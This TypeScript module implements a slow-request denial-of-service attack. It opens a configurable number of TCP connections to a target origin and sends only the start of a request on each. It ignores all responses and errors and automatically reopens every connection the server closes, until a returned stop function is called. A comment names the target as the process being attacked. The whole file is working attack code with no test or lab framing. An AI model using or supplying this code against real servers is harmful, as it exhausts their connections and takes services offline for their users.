import { connect, type Socket } from "node:net";

/** Milliseconds until a connection that the server closed is replaced. */
const REOPENED_AFTER = 250;

export interface HalfRequest {
  /** Of the process that is attacked. */
  readonly origin: string;
  /** What is sent of a request, and nothing after it. */
  readonly begun: string;
  /** How many there are at a time. */
  readonly sockets: number;
}

/** Begins requests on many connections, and on a new one for each that the server closes; stops it. */
export function sendHalves({ origin, begun, sockets }: HalfRequest): () => void {
  const { hostname, port } = new URL(origin);
  const open = new Set<Socket>();
  let isOver = false;
  const begin = () => {
    if (isOver) return;
    const socket = connect({ host: hostname, port: Number(port) });
    open.add(socket);
    socket.write(begun);
    // What the server says, and how it closes, is nothing to a sender who listens to nothing.
    socket.resume().on("error", () => undefined);
    socket.once("close", () => {
      open.delete(socket);
      setTimeout(begin, REOPENED_AFTER);
    });
  };
  for (let count = 0; count < sockets; count++) begin();
  return () => {
    isOver = true;
    for (const socket of open) socket.destroy();
  };
}
